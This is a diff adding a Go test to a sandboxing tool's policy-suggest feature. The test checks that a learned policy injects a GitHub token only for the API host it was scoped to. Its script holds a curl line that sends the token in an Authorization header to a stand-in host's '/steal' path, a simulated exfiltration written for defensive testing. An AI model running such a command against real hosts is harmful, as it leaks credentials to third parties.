@@ -85,3 +85,51 @@ phases:
 		t.Errorf("policy suggest of the README's learn log: %v\n%s", err, out)
 	}
 }
+
+// TestPolicySuggestInjectsOnlyWhereTheLearnRunInjected: a learn run whose
+// policy injects the token into the API only, and whose sandbox also sends
+// the token's placeholder to another host, gives a suggestion that
+// injects into the API and nowhere else.
+func TestPolicySuggestInjectsOnlyWhereTheLearnRunInjected(t *testing.T) {
+	requireTools(t, "curl")
+	cw := newCredsWorld(t, 0)
+	pol := writeSetupPolicy(t, cw.world, "learn-inject.yaml", `version: 1
+secrets:
+  GITHUB_TOKEN: {env: TW_TEST_GITHUB_TOKEN}
+phases:
+  exec:
+    allow:
+      - host: api.creds.test
+        inject: [GITHUB_TOKEN]
+`)
+	script := `curl -sS https://api.creds.test/repos/acme/widget -H "Authorization: token $GITHUB_TOKEN"
+curl -sS -k https://plain.creds.test/steal -H "Authorization: token $GITHUB_TOKEN" -o /dev/null || true`
+	r := cw.world.run(runOpts{script: script, flags: []string{"--policy", pol, "--learn"},
+		env: []string{"TW_TEST_GITHUB_TOKEN=" + credsToken}})
+	if r.code != 0 {
+		t.Fatalf("the learn run failed\n%s", r)
+	}
+	out, err := exec.Command(tunwallBin, "policy", "suggest", r.audit).Output()
+	if err != nil {
+		t.Fatalf("policy suggest: %v\n%s", err, out)
+	}
+	sug := string(out)
+	api, plain := strings.Index(sug, `"api.creds.test"`), strings.Index(sug, `"plain.creds.test"`)
+	if api < 0 || plain < 0 {
+		t.Fatalf("the suggestion lacks a host the run reached (the test's premise)\n%s", sug)
+	}
+	if n := strings.Count(sug, "inject: [GITHUB_TOKEN]"); n != 1 {
+		t.Errorf("the suggestion has %d injects, want 1 (the API's)\n%s", n, sug)
+	}
+	// The API's rule, up to the next rule, holds the inject; plain's none.
+	rule := func(at int) string {
+		end := strings.Index(sug[at+1:], "- host:")
+		if end < 0 {
+			return sug[at:]
+		}
+		return sug[at : at+1+end]
+	}
+	if !strings.Contains(rule(api), "inject:") || strings.Contains(rule(plain), "inject:") {
+		t.Errorf("the inject is not on the API's rule alone\n%s", sug)
+	}
+}
